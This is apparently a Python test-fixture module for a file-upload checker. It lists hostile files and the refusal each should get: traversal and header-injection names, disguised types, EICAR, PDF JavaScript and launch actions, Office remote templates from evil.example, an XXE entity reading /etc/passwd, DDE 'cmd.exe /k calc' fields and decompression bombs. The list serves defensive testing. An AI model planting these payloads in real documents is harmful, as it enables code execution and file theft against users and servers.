"""Hostile files: what each one is, and what becomes of it. A manager can read the table at the end of each line."""

import zlib
from collections.abc import Callable
from dataclasses import dataclass

from files.checks.marks import EICAR
from files.limits import Limits
from files.refusals import Reason as R
from tests.files import offices, pdfs, pictures
from tests.files.offices import docx, field, related, xlsx
from tests.files.pdfs import Dictionary, Name, annotated, opening, pdf, streaming
from tests.files.pictures import picture

LIMITS = Limits(megabytes=5)  # so that files at the limit are made in no time
INERT = "stored inert"


@dataclass(frozen=True)
class Hostile:
    name: str
    what: str
    make: Callable[[], bytes]
    outcome: object  # why it is refused, or INERT
    stored_as: str = ""


def H(name, what, make, outcome, stored_as=""):
    return Hostile(name, what, make, outcome, stored_as or name)


def text(content=b"plain"):
    return lambda: content


def zipped(*entries):
    return lambda: offices.archive(entries)


NAMES = [
    H("scan.pdf.exe", "two endings, the last one a program", pdf, R.UNKNOWN_KIND),
    H("scan", "no ending", pdf, R.UNKNOWN_KIND),
    H(".pdf", "nothing but an ending", pdf, R.UNKNOWN_KIND),
    H("page.html", "a web page", text(b"<script>alert(1)</script>"), R.UNKNOWN_KIND),
    H("drawing.svg", "a drawing that runs script", text(b"<svg onload=alert(1)>"), R.UNKNOWN_KIND),
    H("letter.docm", "a document with macros by its name", docx, R.UNKNOWN_KIND),
    H("photo.heic", "a picture of a kind that is not taken", pictures.heic, R.UNKNOWN_KIND),
    H("photo.tiff", "another such kind", lambda: picture("TIFF"), R.UNKNOWN_KIND),
    H("all.zip", "an archive", zipped(("a.txt", "a")), R.UNKNOWN_KIND),
    H("invoice\u202efdp.exe", "reads as invoiceexe.pdf, is a program", text(b"MZ"), R.UNKNOWN_KIND),
    H("scan.PDF ", "capital ending and a space", pdf, INERT, "scan.pdf"),
    H("scan.pdf.", "a full stop at the end", pdf, INERT, "scan.pdf"),
    H("nul\x00byte.pdf", "NUL in the name", pdf, INERT, "nulbyte.pdf"),
    H("n" * 251 + ".pdf", "a name of 255 bytes", pdf, INERT, "n" * 116 + ".pdf"),
    H("n" * 4092 + ".pdf", "a name of 4 KB", pdf, INERT, "n" * 116 + ".pdf"),
    H("..\\..\\windows\\scan.pdf", "folders, as Windows writes them", pdf, INERT, "scan.pdf"),
    H("../../etc/passwd.txt", "folders that lead elsewhere", text(), INERT, "passwd.txt"),
    H("CON.pdf", "the name of a device", pdf, INERT, "_CON.pdf"),
    H("\u202egnp.pdf", "a name that turns its direction", pdf, INERT, "gnp.pdf"),
    H("line\r\nSet-Cookie: a.pdf", "a line break, for headers", pdf, INERT, "line Set-Cookie- a.pdf"),
    H('a"; filename="b.html.pdf', "quotes, for headers", pdf, INERT, "a-; filename=-b.html.pdf"),
    H("<img src=x onerror=alert(1)>.txt", "markup", text(), INERT, "img src=x onerror=alert(1).txt"),
]
SIZES = [
    H("empty.pdf", "0 bytes", text(b""), R.EMPTY),
    H("one.pdf", "1 byte", text(b"%"), R.WRONG_KIND),
    H("at-limit.txt", "as large as may be", text(b"a" * LIMITS.bytes), INERT),
    H("over.txt", "one byte larger", text(b"a" * (LIMITS.bytes + 1)), R.TOO_LARGE),
]
DISGUISED = [
    H("page.png", "HTML as PNG", text(b"<html><script>alert(1)</script>"), R.WRONG_KIND),
    H("drawing.jpg", "SVG as JPEG", text(b"<svg xmlns='http://www.w3.org/2000/svg' onload='x'/>"), R.WRONG_KIND),
    H("script.png", "JavaScript as PNG", text(b"alert(document.cookie)"), R.WRONG_KIND),
    H("setup.pdf", "a program as PDF", text(b"MZ\x90\x00" + bytes(200)), R.WRONG_KIND),
    H("setup.txt", "a program as text", text(b"\x7fELF\x02\x01\x01" + bytes(200)), R.WRONG_KIND),
    H("photo.jpg", "PNG as JPEG", picture, R.WRONG_KIND),
    H("scan.txt", "PDF as text", pdf, R.WRONG_KIND),
    H("gifar.png", "GIF and Java archive as PNG", lambda: picture("GIF") + zipped(("A.class", "x"))(), R.WRONG_KIND),
    H("tiff.jpg", "TIFF as JPEG", lambda: picture("TIFF"), R.WRONG_KIND),
    H("heic.jpg", "HEIC as JPEG", pictures.heic, R.WRONG_KIND),
    H("zip.docx", "any archive as Word", zipped(("a.txt", "a")), R.BROKEN),
    H("word.xlsx", "Word as Excel", docx, R.WRONG_KIND),
    H("late.pdf", "a web page with a PDF behind it", lambda: b"<script>alert(1)</script>" + pdf(), R.WRONG_KIND),
    H("late.docx", "a document behind something else", lambda: b"%PDF-1.7\n" + docx(), R.WRONG_KIND),
    H(
        "html.pdf",
        "a PDF that is a web page too",
        lambda: pdf().replace(b"\n", b"\n%<script>alert(1)</script>\n", 1),
        INERT,
    ),
    H("zip.pdf", "a PDF with an archive behind it", lambda: pdf() + zipped(("a.exe", "MZ"))(), INERT),
    H("zip.png", "a PNG with an archive behind it", lambda: picture() + zipped(("a.exe", "MZ"))(), INERT),
    H("page.txt", "HTML as text", text(b"<script>alert(1)</script>"), INERT),
]
VIRUSES = [
    H("eicar.txt", "the test virus", text(EICAR), R.VIRUS),
    H("eicar.pdf", "the test virus behind a PDF", lambda: pdf() + EICAR, R.VIRUS),
    H("packed.pdf", "the test virus, packed in a PDF", lambda: streaming(zlib.compress(EICAR)), R.VIRUS),
    H("eicar.docx", "the test virus, packed in a document", lambda: docx("", ("word/media/a.png", EICAR)), R.VIRUS),
    H("twice.docx", "the test virus in an archive in a document",
      lambda: docx("", ("word/embeddings/a.zip", zipped(("a.com", EICAR))())), R.HOLDS_FILES),
]  # fmt: skip
PDFS = [
    H("script.pdf", "runs a script when it is opened", lambda: opening(S=Name.JavaScript, JS="app.alert(1)"), R.ACTS),
    H("names.pdf", "the same from its list of names", pdfs.script_in_names, R.ACTS),
    H("page.pdf", "the same when a page is shown", pdfs.script_on_page, R.ACTS),
    H("spelt.pdf", "the same in another spelling", pdfs.script_by_another_spelling, R.ACTS),
    H("launch.pdf", "starts a program", lambda: opening(S=Name.Launch, F="cmd.exe"), R.ACTS),
    H("web.pdf", "calls a web page when it is opened", lambda: opening(S=Name.URI, URI="http://evil.example"), R.ACTS),
    H("submit.pdf", "sends what is typed into it", lambda: annotated(A=Dictionary(S=Name.SubmitForm)), R.ACTS),
    H("import.pdf", "takes data from a file", lambda: annotated(A=Dictionary(S=Name.ImportData)), R.ACTS),
    H("xfa.pdf", "a form with scripts of its own", pdfs.form_of_xfa, R.ACTS),
    H("film.pdf", "rich media", lambda: annotated(Subtype=Name.RichMedia), R.ACTS),
    H("attached.pdf", "a program attached", pdfs.embedded, R.HOLDS_FILES),
    H("pinned.pdf", "a file pinned to a page", lambda: annotated(Subtype=Name.FileAttachment), R.HOLDS_FILES),
    H("elsewhere.pdf", "content from another file", lambda: streaming(b"", "[]", F="//evil.example/a"), R.FETCHES),
    H("locked.pdf", "a password to open it", lambda: pdfs.encrypted("secret"), R.ENCRYPTED),
    H("closed.pdf", "a password to change it", lambda: pdfs.encrypted(""), R.ENCRYPTED),
    H("million.pdf", "says it has a million pages", pdfs.million_pages_claimed, R.TOO_MANY_PAGES),
    H("long.pdf", "501 pages", lambda: pdf(pages=501), R.TOO_MANY_PAGES),
    H("circle.pdf", "a page tree that leads back to itself", pdfs.page_tree_in_a_circle, R.BROKEN),
    H("xref.pdf", "a table of contents that leads back to itself", pdfs.xref_in_a_circle, INERT),
    H("half.pdf", "cut off in the middle", lambda: pdf()[:200], R.BROKEN),
    H("deep.pdf", "20,000 lists, each in the other", pdfs.nested, R.BROKEN),
    H("bomb.pdf", "a page that unpacks to a gigabyte", lambda: streaming(pdfs.zeros_packed(1)), R.SWELLS),
    H("double.pdf", "the same, packed twice", lambda: streaming(
        zlib.compress(pdfs.zeros_packed(1)), "[/FlateDecode /FlateDecode]"), R.SWELLS),
    H("structure.pdf", "its structure unpacks to two gigabytes", pdfs.object_stream_bomb, R.BROKEN),
    H("canvas.pdf", "a picture of 100,000 by 100,000 in a PDF", pdfs.huge_picture, R.TOO_MANY_PIXELS),
]  # fmt: skip
OFFICE = [
    H("template.docx", "a template from elsewhere", lambda: related(
        "attachedTemplate", "http://evil.example/a.dotm", part="word/_rels/settings.xml.rels"), R.FETCHES),
    H("remote.docx", "a picture from elsewhere", lambda: related("image", "http://evil.example/a.png"), R.FETCHES),
    H("share.docx", "a link to a share, which asks for a password", lambda: related(
        "hyperlink", "\\\\evil.example\\a"), R.FETCHES),
    H("object.docx", "an object from elsewhere", lambda: related("oleObject", "mhtml:http://a!x"), R.FETCHES),
    H("link.docx", "a link like any other", lambda: related("hyperlink", "https://good.example/a?b=c"), INERT),
    H("macro.docx", "macros", lambda: docx("", ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")), R.MACROS),
    H("renamed.docx", "macros by its own account", lambda: docx(
        kind="application/vnd.ms-word.document.macroEnabled.main+xml"), R.MACROS),
    H("control.docx", "a control that runs", lambda: docx("", ("word/activeX/activeX1.bin", b"x")), R.MACROS),
    H("sheet.xlsx", "macros of the old kind", lambda: xlsx("1", ("xl/macrosheets/sheet1.xml", "<a/>")), R.MACROS),
    H("xxe.docx", "reads a file of the server", lambda: offices.entity(
        '<!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/passwd">]>'), R.FETCHES),
    H("laughs.docx", "entities that swell to gigabytes", lambda: offices.entity(offices.LAUGHS), R.FETCHES),
    H("dde.docx", "starts a program through a field", lambda: field('DDEAUTO c:\\\\cmd.exe "/k calc"'), R.ACTS),
    H("parts.docx", "the same, its word in parts", lambda: field("DD", "EAU", 'TO c:\\\\cmd.exe "/k calc"'), R.ACTS),
    H("quote.docx", "the same, spelt in numbers", lambda: field("QUOTE 68 68 69 65 85 84 79"), R.ACTS),
    H("dde.xlsx", "starts a program through a formula", lambda: xlsx("cmd|'/C calc'!A0"), R.ACTS),
    H("fetch.xlsx", "calls a web page through a formula", lambda: xlsx("WEBSERVICE(&quot;http://a&quot;)"), R.ACTS),
    H("books.xlsx", "takes numbers from other files", lambda: xlsx("1", ("xl/externalLinks/a.xml", "<a/>")), R.FETCHES),
    H("ole.docx", "a program as an object", lambda: docx("", ("word/embeddings/o1.bin", b"MZ")), R.HOLDS_FILES),
    H("chunk.docx", "a web page inside", lambda: docx("", ("word/afchunk.mht", "<script>")), R.HOLDS_FILES),
    H("media.docx", "a program among the pictures", lambda: docx("", ("word/media/a.png", b"MZ..")), R.HOLDS_FILES),
    H("dolls.docx", "a document in a document in a document", lambda: docx("", ("word/embeddings/a.docx", docx(
        "", ("word/embeddings/b.docx", docx())))), R.HOLDS_FILES),
    H("chart.docx", "the sheet behind a chart", lambda: docx("", ("word/embeddings/a.xlsx", xlsx())), INERT),
    H("inner.docx", "a sheet inside that starts a program", lambda: docx(
        "", ("word/embeddings/a.xlsx", xlsx("cmd|'/C calc'!A0"))), R.ACTS),
    H("bomb.docx", "an entry that unpacks to 400 MB", lambda: offices.zeros(400), R.SWELLS),
    H("many.docx", "5,000 entries", lambda: docx("", *((f"word/{n}.xml", "<a/>") for n in range(5000))), R.SWELLS),
    H("overlap.docx", "entries that share their bytes", offices.overlapping, R.BROKEN),
    H("liar.docx", "an entry that says it is small", offices.smaller_by_its_own_account, R.BROKEN),
    H("climb.docx", "an entry that leads out", lambda: offices.named("../../evil.xml"), R.BROKEN),
    H("back.docx", "the same, as Windows writes it", lambda: offices.named("..\\evil.xml"), R.BROKEN),
    H("root.docx", "an entry at the root", lambda: offices.named("/etc/evil.xml"), R.BROKEN),
    H("symlink.docx", "an entry that is a link to a file", offices.link_to_a_file, R.BROKEN),
    H("twins.docx", "two entries of one name", offices.same_name_twice, R.BROKEN),
    H("locked.docx", "an entry with a password", offices.locked_entry, R.ENCRYPTED),
    H("old.docx", "of the old kind, or with a password", text(b"\xd0\xcf\x11\xe0" + bytes(600)), R.ENCRYPTED),
    H("half.docx", "cut off in the middle", lambda: docx()[:300], R.BROKEN),
]  # fmt: skip
PICTURES = [
    H("flood.png", "60,000 by 60,000 in a kilobyte", lambda: pictures.claiming(60_000, 60_000), R.TOO_MANY_PIXELS),
    H("flood.jpg", "65,000 by 65,000", lambda: pictures.claiming_jpeg(65_000, 65_000), R.TOO_MANY_PIXELS),
    H("place.jpg", "says where it was taken", pictures.with_place, INERT),
    H("words.png", "markup in its comments", pictures.with_text, INERT),
    H("text.png", "a comment that unpacks to 400 MB", pictures.text_bomb, R.BROKEN),
    H("moves.png", "a moving picture", pictures.moving, R.MOVES),
    H("pair.jpg", "two pictures in one, as phones make them", lambda: pictures.moving("MPO"), INERT),
    H("sum.png", "a wrong sum", pictures.wrong_sum, R.BROKEN),
    H("half.png", "cut off in the middle", lambda: picture(size=(300, 300))[:400], R.BROKEN),
    H("noise.jpg", "a head and then noise", lambda: picture("JPEG")[:100] + bytes(range(256)) * 9, R.BROKEN),
]
TEXTS = [
    H("nul.txt", "NUL", text(b"a\x00b"), R.NOT_TEXT),
    H("wide.txt", "UTF-16", text("Zoë".encode("utf-16")), R.NOT_TEXT),
    H("latin.txt", "Latin-1", text("Zoë".encode("latin-1")), R.NOT_TEXT),
    H("turn.txt", "turns its direction", text("a\u202eb".encode()), R.NOT_TEXT),
    H("terminal.txt", "orders for a terminal", text(b"\x1b]0;owned\x07"), R.NOT_TEXT),
    H("overlong.txt", "a slash in two bytes", text(b"..\xc0\xaf"), R.NOT_TEXT),
    H("bom.txt", "a mark at the beginning", text("\ufeffZoë".encode()), INERT),
]
ALL = [*NAMES, *SIZES, *DISGUISED, *VIRUSES, *PDFS, *OFFICE, *PICTURES, *TEXTS]
